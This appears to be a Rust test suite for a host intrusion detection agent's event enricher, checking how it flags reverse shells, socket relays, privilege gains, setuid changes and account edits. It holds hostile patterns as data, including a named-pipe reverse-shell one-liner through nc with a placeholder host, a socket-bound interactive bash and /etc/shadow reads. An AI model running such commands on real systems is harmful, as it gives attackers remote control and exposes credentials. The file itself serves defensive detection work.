use std::net::{IpAddr, Ipv4Addr};
use std::os::unix::fs::MetadataExt as _;

use engine::event::{Category, Event, Field, Value};
use model::event::{
    Address, Descriptor, Event as KernelEvent, Exec, ExecutableFile, FileChange, Rights, Socket,
    Task, What,
};
use model::time::Timestamp;

use super::*;

struct Host {
    enricher: Enricher,
    now: Timestamp,
}

impl Host {
    fn new() -> Self {
        let now = Timestamp::from_secs(1_800_000_000);
        let root = HostRoot::live().unwrap();
        let config = Config { learn: Duration::ZERO, ..Config::default() };
        let enricher = Enricher::new(root, config, Verdicts::default(), now).unwrap();
        Self { enricher, now }
    }

    fn tell(&mut self, task: &Task, what: What) -> Vec<Event> {
        self.now = self.now + Duration::from_millis(1);
        let mut out = Vec::new();
        self.enricher.event(&KernelEvent { at: self.now, task: task.clone(), what }, &mut out);
        out.into_iter().map(|it| it.event).collect()
    }

    fn fork(&mut self, parent: &Task, pid: u32) -> Task {
        let child_started_ns = u64::from(pid) * 1_000_003;
        self.tell(parent, What::Fork { child_pid: pid, child_started_ns });
        Task {
            pid,
            tid: pid,
            parent_pid: parent.pid,
            started_ns: child_started_ns,
            ..parent.clone()
        }
    }

    fn exec(&mut self, task: &Task, path: &str, line: &str, stdio: [Descriptor; 3]) -> Event {
        let exec = exec(path, line, stdio);
        let events = self.tell(task, What::Exec(Box::new(exec)));
        events.into_iter().next().unwrap()
    }
}

/// Numbers no process of this machine has.
fn task(pid: u32) -> Task {
    let pid = 5_000_000 + pid;
    let name = "start".to_owned();
    Task { pid, tid: pid, started_ns: u64::from(pid) * 1_000_003, name, ..Task::default() }
}

fn exec(path: &str, line: &str, stdio: [Descriptor; 3]) -> Exec {
    let path = std::fs::canonicalize(path).map_or(path.to_owned(), |it| it.display().to_string());
    let file = std::fs::metadata(&path).ok().map(|it| ExecutableFile {
        device: it.dev(),
        inode: it.ino(),
        mode: it.mode(),
        uid: it.uid(),
        gid: it.gid(),
        links: it.nlink() as u32,
        size: it.size(),
        changed_at: Timestamp(it.ctime() * 1_000_000 + it.ctime_nsec() / 1000),
    });
    Exec {
        arguments: line.split(' ').map(ToOwned::to_owned).collect(),
        executable: path,
        file,
        stdio,
        ..Exec::default()
    }
}

fn socket(inode: u64, port: u16) -> Socket {
    let address = |port| Address { ip: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 9)), port };
    Socket { family: 2, kind: 1, inode, local: Some(address(40_000)), peer: Some(address(port)) }
}

fn pipe(inode: u64) -> Descriptor {
    Descriptor::Pipe { inode, is_named: false }
}

fn none() -> [Descriptor; 3] {
    Default::default()
}

fn shown(event: &Event, fields: &[Field]) -> Vec<String> {
    let show = |field: &Field| match event.get(*field) {
        None => "-".to_owned(),
        Some(Value::Text(it)) => it.to_string(),
        Some(Value::Integer(it)) => it.to_string(),
        Some(Value::Bool(it)) => it.to_string(),
        Some(Value::List(it)) => it.join(","),
    };
    fields.iter().map(show).collect()
}

#[test]
fn a_shell_on_a_socket() {
    let mut host = Host::new();
    let on_socket = Descriptor::Socket(socket(77, 4444));
    let shell = host.fork(&task(1), 5_000_002);
    let stdio = [on_socket.clone(), on_socket.clone(), on_socket];
    let event = host.exec(&shell, "/bin/bash", "bash -i", stdio);
    let fields = [
        Field::ImageKind,
        Field::ReadsCommands,
        Field::StdioSameSocket,
        Field::StdinPeerAddress,
        Field::StdinPeerPort,
        Field::StdinPeerIsLoopback,
        Field::SocketWasAccepted,
        Field::ServiceRole,
    ];
    assert_eq!(
        shown(&event, &fields),
        ["shell", "true", "true", "192.0.2.9", "4444", "false", "false", "-"]
    );
}

#[test]
fn a_shell_between_named_pipes_and_a_tool_with_a_socket() {
    let mut host = Host::new();
    let outer = host.fork(&task(1), 5_000_010);
    let fifo = Descriptor::Pipe { inode: 900, is_named: true };
    // cat f | sh -i 2>&1 | nc HOST PORT > f
    let cat = host.fork(&outer, 5_000_011);
    host.exec(&cat, "/bin/cat", "cat f", [fifo.clone(), pipe(901), Descriptor::Terminal]);
    let shell = host.fork(&outer, 5_000_012);
    let event = host.exec(&shell, "/bin/sh", "sh -i", [pipe(901), pipe(902), pipe(902)]);
    let fields = [Field::StdinRelaySocket, Field::StdoutRelaySocket, Field::StdinWriters];
    assert_eq!(shown(&event, &fields), ["false", "false", "cat"]);
    let tool = host.fork(&outer, 5_000_013);
    host.exec(
        &tool,
        "/usr/bin/openssl",
        "openssl s_client",
        [pipe(902), fifo, Descriptor::Terminal],
    );
    let told = host.tell(&tool, What::Connect { socket: socket(55, 443), result: Some(0) });
    assert_eq!(told.len(), 2, "the connection, and the shell that hangs on it");
    let fields = [
        Field::Image,
        Field::StdinRelaySocket,
        Field::StdoutRelaySocket,
        Field::RelayImage,
        Field::RelayPeerAddress,
    ];
    let shell_path = std::fs::canonicalize("/bin/sh").unwrap().display().to_string();
    assert_eq!(told[1].category, Category::Redirection);
    assert_eq!(
        shown(&told[1], &fields),
        [&*shell_path, "true", "true", "/usr/bin/openssl", "192.0.2.9"]
    );
    let again = host.tell(&tool, What::Connect { socket: socket(56, 443), result: Some(0) });
    assert_eq!(again.len(), 1, "told once");
}

#[test]
fn an_ordinary_pipeline_is_no_relay() {
    let mut host = Host::new();
    let outer = host.fork(&task(1), 5_000_020);
    let left = host.fork(&outer, 5_000_021);
    let right = host.fork(&outer, 5_000_022);
    host.exec(&left, "/bin/ls", "ls", [Descriptor::Terminal, pipe(950), Descriptor::Terminal]);
    let event =
        host.exec(&right, "/bin/sh", "sh", [pipe(950), Descriptor::Terminal, Descriptor::Terminal]);
    let fields = [
        Field::StdinRelaySocket,
        Field::StdoutRelaySocket,
        Field::StdinWriters,
        Field::ReadsCommands,
    ];
    assert_eq!(shown(&event, &fields), ["false", "false", "ls", "true"]);
    // Dups of plain pipes are nobody's business.
    assert!(host.tell(&outer, What::Dup { onto: 1, fd: pipe(951) }).is_empty());
    let dup = What::Dup { onto: 0, fd: Descriptor::Socket(socket(60, 80)) };
    let told = host.tell(&outer, dup);
    let fields = [Field::RedirectedDescriptor, Field::StdinIsSocket, Field::StdioSameSocket];
    assert_eq!(shown(&told[0], &fields), ["0", "true", "false"]);
}

#[test]
fn who_serves_and_who_descends() {
    let mut host = Host::new();
    let server = host.fork(&task(1), 5_000_030);
    host.exec(&server, "/usr/bin/perl", "perl server.pl", none());
    let mut listening = socket(70, 0);
    listening.peer = None;
    listening.local = Some(Address { ip: IpAddr::V4(Ipv4Addr::UNSPECIFIED), port: 8080 });
    let told = host.tell(&server, What::Listen { socket: listening });
    let fields =
        [Field::IsListener, Field::SourcePort, Field::ServiceRole, Field::DestinationFirstSeen];
    assert_eq!(shown(&told[0], &fields), ["true", "8080", "web", "true"]);
    let worker = host.fork(&server, 5_000_031);
    let shell = host.fork(&worker, 5_000_032);
    host.exec(&shell, "/bin/sh", "sh -c id", none());
    let id = host.fork(&shell, 5_000_033);
    let event = host.exec(&id, "/usr/bin/id", "id", none());
    let fields = [
        Field::ImageKind,
        Field::ServiceRole,
        Field::ServicePort,
        Field::StarterKind,
        Field::ParentKind,
        Field::ParentCommandLine,
        Field::AncestorNames,
    ];
    assert_eq!(
        shown(&event, &fields),
        [
            "recon_tool",
            "web",
            "8080",
            "interpreter",
            "shell",
            "sh -c id",
            "start,start,start,start"
        ]
    );
}

#[test]
fn rights_and_their_reasons() {
    let root = Rights::default();
    let user = Rights { uid: 1000, euid: 1000, gid: 1000, egid: 1000, capabilities: 0 };
    let mut host = Host::new();
    let mut shell = host.fork(&task(1), 5_000_040);
    (shell.uid, shell.euid) = (1000, 1000);
    host.exec(&shell, "/bin/sh", "sh", none());
    let fields = [
        Field::PrivilegeGained,
        Field::PrivilegeReason,
        Field::PrivilegeCall,
        Field::PreviousUserId,
    ];
    let change = |before: Rights, after: Rights, call| What::Credentials { before, after, call };
    let told = host.tell(&shell, change(user, root, None));
    assert_eq!(shown(&told[0], &fields), ["true", "none", "-", "1000"]);
    // A daemon of root that dropped its rights for a while.
    let daemon = host.fork(&task(1), 5_000_041);
    host.exec(&daemon, "/bin/sh", "sh", none());
    host.tell(&daemon, change(root, user, Some("seteuid")));
    let told = host.tell(&daemon, change(user, root, Some("seteuid")));
    assert_eq!(shown(&told[0], &fields), ["true", "root_parent", "seteuid", "1000"]);
    // ... and one that dropped them for good.
    host.tell(&daemon, change(root, user, Some("setresuid")));
    let told = host.tell(&daemon, change(user, root, Some("setresuid")));
    assert_eq!(shown(&told[0], &fields), ["true", "none", "setresuid", "1000"]);
    // A set-id program gives a reason, another does not.
    for (path, reason) in [("/bin/su", "setuid_file"), ("/bin/sh", "none")] {
        let mut exec = exec(path, "x", none());
        exec.before = Some(user);
        let program = host.fork(&shell, 5_000_042);
        let root_task = Task { uid: 1000, euid: 0, ..program };
        let told = host.tell(&root_task, What::Exec(Box::new(exec)));
        assert_eq!(shown(&told[0], &fields[..2]), ["true", reason], "{path}");
    }
    let mut inside = shell.clone();
    inside.namespaces = Some(model::event::Namespaces { user: 1, ..Default::default() });
    let told = host.tell(&inside, change(user, root, Some("setuid")));
    assert_eq!(shown(&told[0], &fields[..2]), ["true", "user_namespace"]);
}

#[test]
fn a_watched_text_tells_what_changed_once_it_has_settled() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("job");
    std::fs::write(&path, "one\n").unwrap();
    let mut host = Host::new();
    let watched = vec![folder.path().display().to_string()];
    let config = Config { watched_paths: watched, ..Config::default() };
    let root = HostRoot::live().unwrap();
    host.enricher = Enricher::new(root, config, Verdicts::default(), host.now).unwrap();
    let editor = host.fork(&task(1), 5_000_050);
    let open = || What::File {
        change: FileChange::OpenWrite {
            path: path.display().to_string(),
            created: false,
            truncated: true,
        },
        result: Some(3),
    };
    assert!(host.tell(&editor, open()).is_empty());
    std::fs::write(&path, "one\ntwo\n").unwrap();
    let mut out = Vec::new();
    host.enricher.tick(host.now, &mut out);
    assert!(out.is_empty());
    host.enricher.tick(host.now + Duration::from_secs(1), &mut out);
    let fields = [Field::FileOperation, Field::ContentDiff, Field::ProcessId];
    assert_eq!(out.len(), 1);
    assert_eq!(shown(&out[0].event, &fields), ["truncate", "+two", "5000050"]);
    // Opened again, and nothing was written.
    host.tell(&editor, open());
    out.clear();
    host.enricher.tick(host.now + Duration::from_secs(2), &mut out);
    assert!(out.is_empty());
    // What failed did not happen.
    let mut failed = open();
    if let What::File { result, .. } = &mut failed {
        *result = Some(-13);
    }
    assert!(host.tell(&editor, failed).is_empty());
    let mode = FileChange::Mode { path: path.display().to_string(), mode: 0o104_755 };
    let told = host.tell(&editor, What::File { change: mode, result: Some(0) });
    let fields = [Field::AddsSetuid, Field::TargetMode, Field::FileOperation];
    assert_eq!(shown(&told[0], &fields), ["true", "2541", "mode"]);
}

#[test]
fn packages_and_their_transactions() {
    let mut host = Host::new();
    if !host.enricher.images.has_packages() {
        eprintln!("skipped: this host has no package database");
        return;
    }
    let manager = host.fork(&task(1), 5_000_060);
    host.exec(&manager, "/usr/bin/dpkg", "dpkg -i x.deb", none());
    let script = host.fork(&manager, 5_000_061);
    let event = host.exec(&script, "/bin/bash", "bash postinst", none());
    let fields = [
        Field::InPackageTransaction,
        Field::PackageTransaction,
        Field::ImagePackage,
        Field::ImagePackageVerified,
        Field::FirstSeen,
        Field::ScriptPath,
    ];
    assert_eq!(shown(&event, &fields), ["true", "dpkg", "bash", "true", "true", "postinst"]);
    let user = host.fork(&task(1), 5_000_062);
    let event = host.exec(&user, "/bin/bash", "bash", none());
    assert_eq!(shown(&event, &fields[..2]), ["false", "-"]);
}

#[test]
fn floods_stay_bounded_and_fast() {
    let mut host = Host::new();
    let parent = host.fork(&task(1), 5_000_070);
    let began = crate::inspect::thread_cpu();
    let mut out = Vec::new();
    let exec = exec("/bin/true", "true --some=argument value", none());
    for number in 0..20_000_u32 {
        let pid = 6_000_000 + number;
        let child_started_ns = u64::from(pid);
        host.tell(&parent, What::Fork { child_pid: pid, child_started_ns });
        let child = Task { pid, tid: pid, started_ns: child_started_ns, ..parent.clone() };
        let what = What::Exec(Box::new(exec.clone()));
        host.enricher.event(&KernelEvent { at: host.now, task: child.clone(), what }, &mut out);
        host.tell(&child, What::Exit { status: 0 });
        out.clear();
    }
    let each = crate::inspect::thread_cpu().saturating_sub(began) / 20_000;
    println!("fork, exec and exit in {each:?}");
    assert!(host.enricher.processes.len() <= crate::detect::process::ENDED_MAX + 8);
}

#[test]
fn what_the_agent_reads_is_not_told_of_itself() {
    let mut host = Host::new();
    let read = || What::File {
        change: FileChange::OpenRead { path: "/etc/shadow".to_owned() },
        result: Some(3),
    };
    let own = Task { pid: std::process::id(), ..task(1) };
    assert!(host.tell(&own, read()).is_empty());
    assert_eq!(host.tell(&task(2), read()).len(), 1);
}

#[test]
fn what_a_sweep_finds_of_an_account_has_a_doer() {
    let mut host = Host::new();
    let tool = host.fork(&task(1), 5_000_080);
    host.exec(&tool, "/usr/sbin/usermod", "usermod -U art", none());
    let rename = FileChange::Renamed { from: "/etc/shadow+".into(), to: "/etc/shadow".into() };
    host.tell(&tool, What::File { change: rename, result: Some(0) });
    host.tell(&tool, What::Exit { status: 0 });
    // Somebody else's, later.
    let other = host.fork(&task(1), 5_000_081);
    host.exec(&other, "/usr/sbin/useradd", "useradd arthur", none());
    let rename = FileChange::Renamed { from: "/etc/passwd+".into(), to: "/etc/passwd".into() };
    host.tell(&other, What::File { change: rename, result: Some(0) });
    let now = host.now;
    let found = |check: &str, after_s: u64| {
        let mut it = Event::new(Category::State, now + Duration::from_secs(after_s));
        it.set(Field::StateCheck, text(check));
        it.set(Field::StateSubject, text("art"));
        it
    };
    for (check, after_s, known) in [
        ("account_reactivated", 25, true),
        ("group_changed", 25, true),
        ("key_added", 25, false),
        ("autostart_added", 25, false),
        ("account_reactivated", 100, false),
    ] {
        let event = found(check, after_s);
        let doer = host.enricher.account_writer(&event);
        assert_eq!(doer.is_some(), known, "{check} {after_s}");
        let Some(doer) = doer else { continue };
        let event = host.enricher.with_process(event, doer);
        assert_eq!(event.text(Field::CommandLine), Some("usermod -U art"));
        assert_eq!(event.text(Field::StateCheck), Some(check));
    }
}

#[test]
fn a_system_made_in_a_folder_has_its_own_transactions() {
    let mut host = Host::new();
    let fake = |it: &str| exec(it, it, none());
    let manager = host.fork(&task(1), 5_000_090);
    host.tell(&manager, What::Exec(Box::new(fake("/srv/image/usr/bin/dpkg"))));
    let script = host.fork(&manager, 5_000_091);
    host.tell(&script, What::Exec(Box::new(fake("/srv/image/bin/chmod"))));
    let other = host.fork(&task(1), 5_000_092);
    host.tell(&other, What::Exec(Box::new(fake("/srv/image/bin/chmod"))));
    for (task, path, inside) in [
        (&manager, "/srv/image/usr/bin/su.dpkg-new", "true"),
        (&script, "/srv/image/usr/bin/su", "true"),
        (&script, "/usr/bin/su", "false"),
        (&script, "/srv/images/su", "false"),
        (&other, "/srv/image/usr/bin/su", "false"),
    ] {
        let change = FileChange::Mode { path: path.to_owned(), mode: 0o104_755 };
        let told = host.tell(task, What::File { change, result: Some(0) });
        assert_eq!(shown(&told[0], &[Field::InPackageTransaction]), [inside], "{path}");
    }
}

/// Too large to be read before it is told of: what its digest says is told once it is there.
#[test]
fn a_digest_that_comes_late_is_told_all_the_same() {
    use std::os::unix::fs::PermissionsExt;

    use sha2::{Digest as _, Sha256};

    use crate::verdict::Verdict;

    let mut host = Host::new();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("large");
    let content = vec![7; 33 << 20];
    std::fs::write(&path, &content).unwrap();
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
    let digest = Sha256::digest(&content).into();
    host.enricher.verdicts.set(digest, Verdict::Malicious, "Test.Large").unwrap();
    let path = path.to_str().unwrap();
    let process = host.fork(&task(1), 5_000_002);
    let event = host.exec(&process, path, "large", none());
    assert_eq!(shown(&event, &[Field::Image, Field::ImageVerdict]), [path, "-"]);
    let end = std::time::Instant::now() + Duration::from_mins(1);
    let mut told = Vec::new();
    while told.is_empty() && std::time::Instant::now() < end {
        let now = host.now;
        host.enricher.tick(now, &mut told);
        told.retain(|it| it.event.text(Field::Image) == Some(path));
        std::thread::yield_now();
    }
    let fields = [Field::ProcessId, Field::ImageVerdict, Field::ImageVerdictName];
    assert_eq!(told.len(), 1);
    assert_eq!(told[0].event.category, Category::ProcessCreation);
    assert_eq!(shown(&told[0].event, &fields), ["5000002", "malicious", "Test.Large"]);
}
